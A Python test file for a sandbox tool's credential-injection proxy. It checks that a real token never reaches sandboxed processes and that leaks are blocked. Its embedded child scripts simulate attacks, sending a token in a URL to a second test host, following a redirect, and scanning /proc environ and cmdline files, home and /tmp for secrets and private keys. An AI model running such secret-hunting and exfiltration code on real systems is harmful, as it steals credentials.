"""network.credentials and network.http with real children: a real sandbox, its allowlist
proxy, and a loopback HTTPS server under a test CA of the test's own (the proxy verifies it
with that CA in place of the system's trust store). Names resolve only by the proxy's hook."""

from __future__ import annotations

import dataclasses
import os
import secrets
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator

import pytest
from conftest import PYTHON, policy_for
from tlsworld import Canned, chunked, make_ca

from stockade.errors import PolicyError
from stockade.launch.compile import CompileContext, compile_policy
from stockade.launch.manager import execute
from stockade.linux.backend import LinuxBackend
from stockade.policy.model import Credential, HttpRule, NetworkPolicy

pytestmark = pytest.mark.usefixtures("linux")
NAMES = {"api.test": "127.0.0.1", "other.test": "127.0.0.1"}
SOURCE = "STOCKADE_TEST_CRED_SOURCE"


@pytest.fixture(scope="module")
def pki() -> Iterator[tuple[str, str]]:
    with tempfile.TemporaryDirectory() as directory:
        yield make_ca(directory, ["api.test", "other.test"])


@pytest.fixture
def secret(monkeypatch) -> str:
    value = "ghp_" + secrets.token_hex(20)
    monkeypatch.setenv(SOURCE, value)
    return value


def policy(ports: list[int], **credential: str):
    allow = tuple(f"{name}:{port}" for name in (*NAMES, "127.0.0.1") for port in ports)
    source = {} if "from_file" in credential else {"from_env": SOURCE}
    fields = {"header": "Authorization", "prefix": "Bearer "} | source | credential
    return dataclasses.replace(policy_for("read-only"), network=NetworkPolicy(
        "allowlist", allow, credentials=(Credential("gh", "api.test", "GH_TOKEN", **fields),),
        http=(HttpRule("api.test", ("GET", "HEAD"), ("/repos/org/",)),
              HttpRule("other.test", ("GET",), ("/ok/",)))))


def backend(pki) -> LinuxBackend:
    return LinuxBackend(resolver=lambda host: [NAMES[host]] if host in NAMES else [],
                        upstream_ca=pki[0])


# The child: HTTPS with the placeholder as its token (urllib, trusting what SSL_CERT_FILE
# names), the placeholder sent elsewhere, refused methods and paths; then it looks for the
# secret everywhere it can read, and for a private key beside the CA.
CHILD = """
import os, sys, urllib.request, urllib.error
token = os.environ["GH_TOKEN"]
print("placeholder", token.startswith("stockade-cred-gh-"))
def call(url, method="GET", **headers):
    request = urllib.request.Request(url, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=20) as reply:
            return reply.status
    except urllib.error.HTTPError as e:
        return e.code
print("injected", call(f"https://api.test:{TLS}/repos/org/x", Authorization="Bearer " + token))
print("exfil", call(f"http://other.test:{PLAIN}/ok/?t=" + token))
print("https-method", call(f"https://api.test:{TLS}/repos/org/x", "DELETE"))
print("https-path", call(f"https://api.test:{TLS}/user/keys"))
print("http-path", call(f"http://other.test:{PLAIN}/admin"))
print("http-ok", call(f"http://other.test:{PLAIN}/ok/fine"))
# api.test redirects to other.test; urllib follows with the same Authorization header
print("redirect", call(f"https://api.test:{TLS}/repos/org/r?to=http://other.test:{PLAIN}/ok/r",
                       Authorization="Bearer " + token))
# (a part of the secret, reversed: the child never holds the whole of it, which the host
# then seeks in its memory)
secret = sys.argv[1].encode()[::-1]
found = []
roots = [os.environ["HOME"], os.getcwd(), "/tmp", os.path.dirname(os.environ["SSL_CERT_FILE"])]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        roots.append(f"/proc/{pid}/environ")
        roots.append(f"/proc/{pid}/cmdline")
for root in roots:
    for path in ([root] if not os.path.isdir(root) else
                 [os.path.join(d, f) for d, _, fs in os.walk(root) for f in fs]):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        if secret in data or b"PRIVATE" + b" KEY" in data:
            found.append(path)
print("found", found)
print("ca-dir", sorted(os.listdir(os.path.dirname(os.environ["SSL_CERT_FILE"]))))
print("trust", all(os.environ[n] == os.environ["SSL_CERT_FILE"]
                   for n in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO")))
call(f"http://other.test:{PLAIN}/ok/done")
import time; time.sleep(3)
"""


def _environs() -> dict[int, bytes]:
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found[int(pid)] = handle.read()
        except OSError:
            continue
    return found


def _memory_holds(pid: int, needle: bytes) -> bool:
    """Whether any readable mapping of process `pid` holds `needle` (the host's view)."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "r" not in perms:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                if needle in mem.read(end - start):
                    return True
            except (OSError, ValueError, OverflowError):
                continue
    return False


def test_the_server_gets_the_secret_and_the_sandbox_never_holds_it(ws, pki, tls_server,
                                                                   plain_server, secret):
    workspace, _ = ws
    code = textwrap.dedent(CHILD).replace("{TLS}", str(tls_server.port)).replace(
        "{PLAIN}", str(plain_server.port))
    request = compile_policy(policy([tls_server.port, plain_server.port]),
                             [PYTHON, "-c", code, secret[4:30][::-1]],
                             CompileContext.current(workspace))
    assert secret not in request.encode().decode()
    placeholder = dict(request.env)["GH_TOKEN"]
    result: list = []
    runner = threading.Thread(target=lambda: result.append(execute(backend(pki), request)))
    runner.start()
    try:
        deadline = time.monotonic() + 60
        while not any(s.path == "/ok/done" for s in plain_server.seen):
            assert time.monotonic() < deadline and runner.is_alive(), result
            time.sleep(0.05)
        # The host's view while the command runs: no process but this one (the caller) has
        # the secret in its environment; those of the sandbox hold it nowhere in memory.
        environs = _environs()
        holders = [pid for pid, env in environs.items()
                   if secret.encode() in env and pid != os.getpid()]
        assert holders == []
        sandboxed = [pid for pid, env in environs.items() if placeholder.encode() in env]
        assert sandboxed
        assert [pid for pid in sandboxed if _memory_holds(pid, secret.encode())] == []
    finally:
        runner.join(60)
    (r,) = result
    lines = dict(line.split(" ", 1) for line in r.stdout.decode().splitlines())
    assert lines == {"placeholder": "True", "injected": "200", "exfil": "403",
                     "https-method": "403", "https-path": "403", "http-path": "403",
                     "http-ok": "200", "redirect": "403", "found": "[]",
                     "ca-dir": "['bundle.pem', 'ca.pem']", "trust": "True"}, r.stderr
    assert tls_server.seen[0].headers["Authorization"] == f"Bearer {secret}"
    assert [s.path for s in tls_server.seen] == [
        "/repos/org/x", f"/repos/org/r?to=http://other.test:{plain_server.port}/ok/r"]
    assert [s.path for s in plain_server.seen] == ["/ok/fine", "/ok/done"]
    reasons = [(e["host"], e["reason"]) for e in r.network_log]
    assert reasons == [("other.test", "credential_exfiltration"),
                       ("api.test", "method_not_allowed"), ("api.test", "path_not_allowed"),
                       ("other.test", "path_not_allowed"),
                       ("other.test", "credential_exfiltration")]
    assert secret not in repr(r)  # (the result: log, violations, output)
    assert any(v.kind == "network.denied" and "credential_exfiltration" in v.detail
               for v in r.violations)


def test_the_ca_directory_is_removed_after_the_run(ws, pki, secret):
    workspace, _ = ws
    request = compile_policy(policy([443]), [PYTHON, "-c", "import os; print(os.environ["
                                             "'SSL_CERT_FILE'])"],
                             CompileContext.current(workspace))
    r = execute(backend(pki), request)
    assert r.exit_code == 0, r.stderr
    bundle = r.stdout.decode().strip()
    assert bundle.endswith("/bundle.pem") and not os.path.exists(os.path.dirname(bundle))


def test_a_missing_variable_is_a_typed_refusal(ws, pki, monkeypatch):
    workspace, _ = ws
    monkeypatch.delenv(SOURCE, raising=False)
    request = compile_policy(policy([443]), [PYTHON, "-c", "pass"],
                             CompileContext.current(workspace))
    with pytest.raises(PolicyError) as caught:
        execute(backend(pki), request)
    assert caught.value.code == "credential_unavailable"
    assert caught.value.key == "network.credentials[0].from_env"


def test_an_unreadable_file_is_a_typed_refusal(ws, pki, tmp_path):
    workspace, _ = ws
    request = compile_policy(policy([443], from_file=str(tmp_path / "missing")),
                             [PYTHON, "-c", "pass"], CompileContext.current(workspace))
    with pytest.raises(PolicyError) as caught:
        execute(backend(pki), request)
    assert caught.value.code == "credential_unavailable"
    assert caught.value.key == "network.credentials[0].from_file"
    assert "missing" in caught.value.message


def test_a_secret_file_the_sandbox_could_read_is_refused(ws, secret):
    workspace, _ = ws
    (workspace / "token").write_text(secret)
    with pytest.raises(PolicyError) as caught:
        compile_policy(policy([443], from_file=str(workspace / "token")),
                       [PYTHON, "-c", "pass"], CompileContext.current(workspace))
    assert caught.value.code == "credential_exposed"


def test_the_source_variable_passed_into_the_sandbox_is_refused(ws, secret):
    workspace, _ = ws
    base = policy([443])
    passing = dataclasses.replace(base, env=dataclasses.replace(
        base.env, passthrough=(*base.env.passthrough, SOURCE)))
    with pytest.raises(PolicyError) as caught:
        compile_policy(passing, [PYTHON, "-c", "pass"], CompileContext.current(workspace))
    assert caught.value.code == "credential_exposed"
    assert caught.value.key == "network.credentials[0].from_env"


@pytest.mark.parametrize("encode", ["basic-auth", "hex"])
def test_a_passed_variable_holding_the_secret_encoded_is_refused(ws, pki, secret, monkeypatch,
                                                                encode):
    """Issue 34, E1: a variable the policy passes that holds the secret base64-encoded inside
    a basic-auth header value (git's extraheader, as CI runners set it) or hex is the secret
    all the same (the forms the proxy cuts from responses): the launch is refused before the
    command, which would decode it, starts."""
    import base64

    workspace, _ = ws
    value = {"basic-auth": "AUTHORIZATION: basic " + base64.b64encode(
                 f"x-access-token:{secret}".encode()).decode(),
             "hex": secret.encode().hex()}[encode]
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", value)
    base = policy([443])
    passing = dataclasses.replace(base, env=dataclasses.replace(
        base.env, passthrough=(*base.env.passthrough, "GIT_CONFIG_VALUE_0")))
    request = compile_policy(passing, [PYTHON, "-c", "import os; print(os.environ)"],
                             CompileContext.current(workspace))
    with pytest.raises(PolicyError) as caught:
        execute(backend(pki), request)
    assert caught.value.code == "credential_exposed"
    assert "GIT_CONFIG_VALUE_0" in caught.value.message and secret not in caught.value.message


def test_a_warm_sandbox_refuses_credentials(ws, secret):
    """Each command of a session is compiled with placeholders of its own, which the session's
    proxy would not know: refused, until sessions keep one set."""
    import stockade

    workspace, _ = ws
    with pytest.raises(stockade.UnenforceableError) as caught:
        with stockade.Sandbox(policy([443]), workspace=workspace):
            pass
    assert caught.value.code == "unenforceable:network.credentials"


# C1: the child asks a credential host that echoes its request in chunks split inside the
# secret (as a Go server's buffered writes split it), reads the body its library de-chunked,
# and sends what it found to another host
STEAL = """
import os, re, urllib.request
request = urllib.request.Request(f"https://api.test:{TLS}/repos/org/x",
                                 headers={"Authorization": "Bearer " + os.environ["GH_TOKEN"]})
try:
    body = urllib.request.urlopen(request, timeout=20).read().decode("latin-1")
except Exception as exc:
    body = repr(exc)
found = re.search(r"Bearer (\\S+)", body)
print("got", found.group(1) if found else None)
try:
    urllib.request.urlopen(f"http://other.test:{PLAIN}/ok/loot?t={body[-200:]}", timeout=20)
except Exception:
    pass
"""


def test_a_secret_echoed_in_split_chunks_never_reaches_the_sandbox(ws, pki, plain_server,
                                                                   secret):
    def echo_split(head: bytes) -> bytes:
        at = head.index(secret.encode()) + len(secret) // 2
        return chunked(b"x" * 5000, head[:at], head[at:])

    upstream = Canned(pki[1], echo_split)
    try:
        workspace, _ = ws
        code = textwrap.dedent(STEAL).replace("{TLS}", str(upstream.port)).replace(
            "{PLAIN}", str(plain_server.port))
        request = compile_policy(policy([upstream.port, plain_server.port]),
                                 [PYTHON, "-c", code], CompileContext.current(workspace))
        result = execute(backend(pki), request)
    finally:
        upstream.sock.close()
    assert secret.encode() in upstream.heads[0]  # (the server got it, and echoed it split)
    assert secret[:8] not in result.stdout.decode(), result.stdout
    assert b"got " in result.stdout, result.stderr[-2000:]
    assert all(secret[:8] not in seen.path for seen in plain_server.seen)
    assert "credential_reflected" in [e["reason"] for e in result.network_log]
